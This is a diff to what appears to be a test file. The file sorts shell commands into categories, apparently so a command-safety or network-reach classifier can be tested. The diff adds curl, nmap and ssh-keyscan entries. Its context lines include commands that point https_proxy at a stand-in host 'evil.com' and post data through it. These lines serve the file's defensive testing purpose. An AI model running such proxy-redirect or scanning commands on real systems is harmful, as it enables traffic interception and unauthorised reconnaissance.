@@ -23,6 +23,7 @@ HALF_HERE = [
         "export https_proxy=http://evil.com",
         "env https_proxy=http://evil.com curl -d a ::1",
         "curl -K f localhost",
+        "curl --alt-svc f -d a https://localhost",
     ),
 ]
 TO_ANYBODY = [
@@ -71,7 +72,13 @@ ASKED = [
         "ping -c 1 example.org",
         "ping6 example.org",
     ),
-    *("getent hosts example.org", "resolvectl query example.org", "traceroute example.org"),
+    *(
+        "getent hosts example.org",
+        "resolvectl query example.org",
+        "traceroute example.org",
+        "nmap -p 80 example.org",
+        "ssh-keyscan -t rsa example.org",
+    ),
     *("nc -z example.org 80", "git clone git@example.org:a/b", "scp me@example.org:a ."),
     *(
         "sh -c 'dig example.org'",
